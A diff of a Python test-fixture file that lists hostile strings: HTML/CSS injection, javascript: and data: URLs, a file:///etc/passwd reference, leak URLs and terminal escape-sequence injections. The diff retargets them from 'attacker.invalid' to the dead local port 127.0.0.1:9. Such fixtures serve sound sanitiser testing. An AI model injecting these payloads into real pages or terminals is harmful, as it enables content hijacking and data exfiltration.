@@ -38,18 +38,18 @@ SCRIPTS = (
 )
 STYLES = (
     "<style>body{display:none}</style>",
-    "</style><link rel=stylesheet href=//attacker.invalid/x.css>",
-    '" style="position:fixed;inset:0;background:url(https://attacker.invalid/pixel)',
-    "<base href=https://attacker.invalid/>",
-    '<meta http-equiv=refresh content="0;url=https://attacker.invalid/">',
-    "<form action=https://attacker.invalid/><button>send</button></form>",
+    "</style><link rel=stylesheet href=//127.0.0.1:9/x.css>",
+    '" style="position:fixed;inset:0;background:url(https://127.0.0.1:9/pixel)',
+    "<base href=https://127.0.0.1:9/>",
+    '<meta http-equiv=refresh content="0;url=https://127.0.0.1:9/">',
+    "<form action=https://127.0.0.1:9/><button>send</button></form>",
 )
 ADDRESSES = (
     "javascript:window.__pwned=30",
     "java\tscript:window.__pwned=31",
     "data:text/html,<script>window.__pwned=32</script>",
-    "https://attacker.invalid/?leak",
-    "//attacker.invalid/x",
+    "https://127.0.0.1:9/?leak",
+    "//127.0.0.1:9/x",
     "file:///etc/passwd",
     "[click](javascript:window.__pwned=33)",
 )
@@ -67,11 +67,11 @@ UNSEEN = (
 )
 TERMINAL = (
     "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b0m",
-    "\x1b]8;;https://attacker.invalid/\x1b\\link\x1b]8;;\x1b\\",
+    "\x1b]8;;https://127.0.0.1:9/\x1b\\link\x1b]8;;\x1b\\",
     "over\rwritten\x08\x08 \x00nul",
     "[bold red]loud[/] :skull:",
 )
-TEXTS = (*SCRIPTS, *STYLES, *ADDRESSES, *TEMPLATES, *UNSEEN, *TERMINAL)
+TEXTS = (*TERMINAL, *UNSEEN, *SCRIPTS, *STYLES, *ADDRESSES, *TEMPLATES)
 """Every one of them."""
 ALL = " ¶ ".join(TEXTS)
 """All in one line."""
